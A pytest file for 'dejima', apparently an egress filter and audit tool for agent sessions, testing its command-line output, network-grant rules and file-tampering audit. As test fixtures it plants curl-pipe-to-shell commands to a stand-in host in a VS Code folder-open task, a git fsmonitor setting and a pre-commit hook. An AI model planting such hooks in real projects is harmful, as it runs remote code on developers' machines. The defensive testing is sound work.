"""The commands as a script uses them, through pipes: tables and answers on stdout, diagnostics on
stderr, and no value cut off a terminal. The real CLIs in subprocesses; `dejima-allow` against the
filter's real resolver and control socket (tests/unit/cli/livefilter.py)."""

from __future__ import annotations

import ipaddress
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from dnslib import RCODE

from dejima.adapters.session_dirs import ViolationStore
from dejima.core.egress import PolicyError, parse_policy
from dejima.core.plan import NetworkFacts
from dejima.filter import VIOLATION
from tests.unit.cli.livefilter import live_filter, upstream

# Longer than a terminal's 80 columns: off a terminal it is printed whole, never cut or folded.
LONG_NAME = "a-rather-long-label-for-a-test." + "b" * 40 + ".refused.example.test"


def dejima(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from dejima.cli.launch import main; raise SystemExit(main())",
                           *args], cwd=cwd, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def audit(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-c", "from dejima.cli.audit import main; raise SystemExit(main())",
                           *args], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def test_allow_listings_go_to_stdout_whole_and_answers_too(tmp_path: Path) -> None:
    with live_filter(tmp_path, "out11111", parse_policy(["web.example.test"], [])) as live:
        live.ask(LONG_NAME)
        listed = live.command("dejima-allow")
        assert listed.returncode == 0, listed.stderr
        assert LONG_NAME in listed.stdout and "refused names" in listed.stdout
        assert LONG_NAME not in listed.stderr
        granted = live.command("dejima-allow", "1", "--reason", "the test needs it")
        assert granted.returncode == 0, granted.stderr
        assert f"granted {LONG_NAME} to session out11111" in granted.stdout
        both = live.command("dejima-allow", "--list")
        assert both.returncode == 0, both.stderr
        grants, refusals = both.stdout.split("refused names")
        assert "live grants" in grants and "the test needs it" in grants
        assert LONG_NAME in grants and LONG_NAME in refusals  # each whole


def test_violations_and_the_session_list_of_records_go_to_stdout_whole(tmp_path: Path) -> None:
    store = ViolationStore("out22222")
    assert store.append_line(VIOLATION + json.dumps({"time": time.time(), "kind": "dns", "domain": LONG_NAME,
                                                     "reason": f"{LONG_NAME} is not on the allow list"}))
    shown = dejima("violations", "out22222")
    assert shown.returncode == 0, shown.stderr
    assert shown.stdout.count(LONG_NAME) == 2 and LONG_NAME not in shown.stderr
    empty = dejima("violations", "out33333")
    assert empty.stdout == "" and "no violations recorded" in empty.stderr  # a diagnostic, not a result


def test_manifests_list_goes_to_stdout_with_whole_paths() -> None:
    listed = dejima("manifests", "list")
    assert listed.returncode == 0, listed.stderr
    from dejima import api

    shipped = next(m.source for m in api.manifests() if m.ref == "harnesses/shell")
    assert "harnesses/shell" in listed.stdout
    rows = [line for line in listed.stdout.splitlines() if "harnesses/shell" in line]
    assert len(rows) == 1 and shipped in rows[0], rows  # one line, its path whole


def test_audit_list_off_a_terminal_cuts_no_path_or_evidence(tmp_path: Path) -> None:
    import io

    from dejima.orchestration import exit_audit
    from dejima.ui.console import UI, plain_console

    workspace = tmp_path / ("project-" + "p" * 60)
    deep = workspace / ".vscode"
    deep.mkdir(parents=True)
    exit_audit.start("out44444", [exit_audit.Mount("workspace", workspace)])
    (deep / "tasks.json").write_text(json.dumps({"version": "2.0.0", "tasks": [
        {"label": "l", "command": "curl https://" + "c" * 70 + ".example.test | sh",
         "runOptions": {"runOn": "folderOpen"}}]}))
    exit_audit.finish("out44444", UI(plain_console(io.StringIO())))
    listed = audit("list")
    assert listed.returncode == 0, listed.stderr
    assert str(workspace) in listed.stdout and "(+1 more)" in listed.stdout and "…" not in listed.stdout


# The host's facts as a start finds them: this host's address and the engine's gateway.
HOST_ADDRESS, GATEWAY = ipaddress.ip_network("10.9.9.9/32"), ipaddress.ip_network("172.17.0.1/32")
FACTS = NetworkFacts(denied_addresses=(HOST_ADDRESS, GATEWAY), host_addresses=(HOST_ADDRESS,), gateway=GATEWAY)
POLICY = parse_policy(["web.example.test"], [("evil.example.test", "known exfiltration host")],
                      denied_addresses=FACTS.denied_addresses)


def test_dejima_allow_holds_an_address_to_the_starts_rule_and_names_the_override(tmp_path: Path) -> None:
    with live_filter(tmp_path, "grant111", POLICY) as live:
        container = live.command("dejima-allow", "172.17.0.2:8080")  # another container: --allow takes it
        assert container.returncode == 0, container.stderr
        assert "granted 172.17.0.2:8080 to session grant111" in container.stdout
        gateway = live.command("dejima-allow", "172.17.0.1:8080")
        assert gateway.returncode == 1, gateway.stderr
        assert "reaches 172.17.0.1, an address of this host" in gateway.stderr
        assert "--allow-special 172.17.0.1:8080" in gateway.stderr and "private" not in gateway.stderr
        assert "172.17.0.1:8080" not in live.grants.active
        from dejima import api

        with pytest.raises(api.GrantRefused) as refused:  # through the API: its keyword
            api.grant("grant111", ["172.17.0.1:8080"])
        assert "allow_special=['172.17.0.1:8080']" in refused.value.message and "--" not in refused.value.message
        unlocked = live.command("dejima-allow", "172.17.0.1:8080", "--allow-special", "172.17.0.1:8080")
        assert unlocked.returncode == 0, unlocked.stderr
        documentation = live.command("dejima-allow", "203.0.113.80")
        assert documentation.returncode == 0, documentation.stderr
        stray = live.command("dejima-allow", "203.0.113.81", "--allow-special", "203.0.113.99")
        assert stray.returncode == 1 and "overrides nothing" in stray.stderr
        assert set(live.grants.active) == {"172.17.0.2:8080", "172.17.0.1:8080", "203.0.113.80"}


@pytest.mark.parametrize("entry", ["172.17.0.2:8080", "172.17.0.1", "10.9.9.9:22", "169.254.169.254",
                                   "100.100.100.200:80", "10.0.0.5", "203.0.113.80", "127.0.0.1:5432",
                                   "8.8.8.8:53"])
def test_a_grant_and_a_start_take_and_refuse_the_same_addresses(entry: str) -> None:
    """One rule for both: what --allow takes without an override, a grant takes; what --allow refuses
    without --allow-special, a grant refuses too, naming the same override; with it, both take it."""
    from dejima.core.plan import unlock_special
    from dejima.core.settings import Settings
    from dejima.filter.control import Grants
    from tests.unit.cli.livefilter import RecordingNft

    def start(overrides: tuple[str, ...]) -> str | None:
        allowed = parse_policy([entry], [], "--allow", FACTS.denied_addresses)
        try:
            unlock_special(allowed, Settings(), overrides, FACTS, "settings.toml")
        except PolicyError as exc:
            return f"{exc.message} {exc.hint}"
        return None

    def grant(overrides: list[str]) -> str | None:
        from dejima.filter.nft import SetWriter
        from dejima.filter.resolver import PolicyResolver
        from dejima.filter.setbatch import BatchedSets

        sets = SetWriter("inet", "dejima", handle=RecordingNft())
        records: list[dict[str, object]] = []
        resolver = PolicyResolver(POLICY, upstream("198.18.7.7"), BatchedSets(sets), records.append)  # type: ignore
        answer = Grants(resolver, sets, records.append).handle(json.dumps(
            {"v": 1, "op": "grant", "entries": [entry], "special": overrides}).encode())
        return None if answer["ok"] else str(answer["error"])

    refused_at_start, refused_live = start(()), grant([])
    assert (refused_at_start is None) == (refused_live is None), (refused_at_start, refused_live)
    if refused_live is not None:
        assert refused_at_start is not None and f"--allow-special {entry}" in refused_at_start
        assert f"--allow-special {entry}" in refused_live and "private" not in refused_live
        assert start((entry,)) is None and grant([entry]) is None


def test_an_answer_into_a_documentation_range_is_refused_as_what_it_is(tmp_path: Path) -> None:
    with live_filter(tmp_path, "grant222", POLICY, answer="203.0.113.80") as live:
        assert live.ask("web.example.test").header.rcode == RCODE.REFUSED
    reasons = [str(r.get("reason")) for r in live.records]
    assert any("203.0.113.80 is a documentation (TEST-NET-3, RFC 5737) address" in r for r in reasons), reasons
    assert not any("private" in r for r in reasons)


def test_a_refused_name_granted_for_a_while_is_listed_as_granted_until_then(tmp_path: Path) -> None:
    with live_filter(tmp_path, "grant333", POLICY) as live:
        live.ask("crates.example.test")
        live.ask("evil.example.test")
        before = live.command("dejima-allow")
        assert "crates.example.test is not on the allow list" in before.stdout
        granted = live.command("dejima-allow", "2", "--for", "10m")  # newest first: evil is 1
        assert granted.returncode == 0, granted.stderr
        expires = live.grants.active["crates.example.test"].expires
        assert expires is not None
        listed = live.command("dejima-allow")
        rows = {line.split("│")[2].strip(): line for line in listed.stdout.splitlines() if line.count("│") > 2}
        shown = time.strftime("%H:%M" if time.localtime(expires)[:3] == time.localtime()[:3] else "%Y-%m-%d %H:%M",
                              time.localtime(expires))  # ten minutes on: a date only past midnight
        assert f"granted until {shown}" in rows["crates.example.test"]
        assert "cannot be granted" not in rows["crates.example.test"]
        assert "known exfiltration host (cannot be granted)" in rows["evil.example.test"]
        forever = live.command("dejima-allow", "2")  # granted again, until the session ends
        assert forever.returncode == 0, forever.stderr
        assert "granted until the session ends" in live.command("dejima-allow").stdout


@pytest.mark.skipif(os.geteuid() != 0, reason="restoring another user's file as root needs root")
def test_restore_as_root_keeps_the_files_owner_group_and_mode(tmp_path: Path) -> None:
    """`dejima-audit restore` run by root on a user's repository: .git/config comes back as it was,
    owned by that user, not by root (the next session would report the owner change)."""
    import io

    from dejima.adapters.findings import FindingStore
    from dejima.orchestration import exit_audit
    from dejima.ui.console import UI, plain_console

    workspace = tmp_path / "repo"
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    config = workspace / ".git" / "config"
    config.chmod(0o640)
    hook = workspace / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o750)
    for path in (workspace, *workspace.rglob("*")):
        os.lchown(path, 1000, 1001)
    original, hook_text = config.read_bytes(), hook.read_text()
    exit_audit.start("own11111", [exit_audit.Mount("workspace", workspace)])
    with config.open("a") as appended:  # as the session (uid 1000) would: the file stays 1000's
        appended.write("[core]\n\tfsmonitor = sh -c 'curl evil.example.test | sh'\n")
    replaced = workspace / ".git" / "hooks" / "pre-commit.new"  # replaced by a new file: the session's
    replaced.write_text("#!/bin/sh\ncurl evil.example.test | sh\n")
    os.chown(replaced, 1000, 1000)
    replaced.chmod(0o755)
    replaced.replace(hook)
    exit_audit.finish("own11111", UI(plain_console(io.StringIO())))
    store = FindingStore()
    try:
        ids = [str(s.id) for s in store.findings(str(workspace))]
    finally:
        store.close()
    assert ids
    restored = audit("restore", *ids)
    assert restored.returncode == 0, restored.stderr
    assert config.read_bytes() == original and hook.read_text() == hook_text
    for path, mode in ((config, 0o640), (hook, 0o750)):
        info = path.stat()
        assert (info.st_uid, info.st_gid, info.st_mode & 0o7777) == (1000, 1001, mode), (path, info)
    assert "owner 1000:1001" in restored.stdout


def test_a_kubernetes_render_names_every_missing_setting_at_once(tmp_path: Path) -> None:
    from tests.unit.cli.test_launch_errors import owned_by_a_user

    (tmp_path / "ws").mkdir()
    workspace = owned_by_a_user(tmp_path / "ws")
    settings = tmp_path / "settings.toml"
    for text in ("[network]\nallow = []\n", '[kubernetes]\nnamespace = "agents"\n'):
        settings.write_text(text)
        rendered = subprocess.run(
            [sys.executable, "-c", "from dejima.cli.launch import main; raise SystemExit(main())", str(workspace),
             "--render", "kubernetes"], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
            env={**os.environ, "DEJIMA_SETTINGS": str(settings)})
        assert rendered.returncode == 2 and rendered.stdout == "", rendered.stderr
        message = rendered.stderr
        assert f"3 [kubernetes] settings are missing in {settings}" in message, message
        for key, fix in (("filter_image", "dejima images list"), ("session_image", "dejima images list"),
                         ("dns_upstreams", "kubectl -n kube-system get service kube-dns")):
            (line,) = [line for line in message.splitlines() if f"[kubernetes] {key}" in line]
            assert fix in line, line  # each key with its own fix, on its own line
    settings.write_text('[kubernetes]\nfilter_image = "r.example/f:1"\n')
    rendered = subprocess.run(
        [sys.executable, "-c", "from dejima.cli.launch import main; raise SystemExit(main())", str(workspace),
         "--render", "kubernetes", "--dns-upstream", "10.96.0.10"], capture_output=True, text=True, timeout=60,
        stdin=subprocess.DEVNULL, env={**os.environ, "DEJIMA_SETTINGS": str(settings)})
    assert rendered.returncode == 2 and "1 [kubernetes] setting is missing" in rendered.stderr, rendered.stderr
    assert "[kubernetes] session_image" in rendered.stderr and "dns_upstreams" not in rendered.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="the refusal of a root-owned workspace happens as root")
def test_the_api_names_its_keywords_and_the_command_line_its_flags(tmp_path: Path) -> None:
    """docs/api.md's example, run as root as written (a root-owned temporary workspace): its error names
    the API's keyword (as_root=True), never the command line's flag; the command line keeps its flags."""
    import re

    docs = Path(__file__).resolve().parents[3] / "docs" / "api.md"
    (example,) = re.findall(r"^## Example\n.*?^```python\n(.*?)^```$", docs.read_text(), re.S | re.M)
    script = tmp_path / "example.py"
    script.write_text(example)
    ran = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=60,
                         stdin=subprocess.DEVNULL, cwd=tmp_path)
    assert ran.returncode != 0 and "UsageError" in ran.stderr, ran.stderr
    assert "as_root=True" in ran.stderr and "--as-root" not in ran.stderr, ran.stderr[-800:]

    from dejima import api
    from dejima.errors import InputError

    workspace = tmp_path / "ws"
    workspace.mkdir()
    for request, keyword, flag in (
            (api.Request(workspace, ["true"]), "as_root=True", "--as-root"),
            (api.Request(workspace, ["true"], as_root=True, allow=["*.com"]), "allow", "--allow"),
            (api.Request(workspace, ["true"], as_root=True, dns_upstreams=["::1"]), "dns_upstreams", "--dns-upstream"),
            (api.Request(workspace, ["true"], as_root=True, allow=["169.254.169.254"]),
             "allow_special=['169.254.169.254']", "--allow-special 169.254.169.254"),
            (api.Request(workspace, ["true"], as_root=True, harness="no-such-harness"), "harness", "--harness")):
        with pytest.raises(InputError) as caught:
            api.render(request)
        said = f"{caught.value.message} {caught.value.hint} {caught.value.context}"
        assert keyword in said and flag not in said, said
    cli = dejima(str(workspace), "--render", "--", "true")
    assert cli.returncode == 2 and "--as-root" in cli.stderr and "as_root=True" not in cli.stderr, cli.stderr
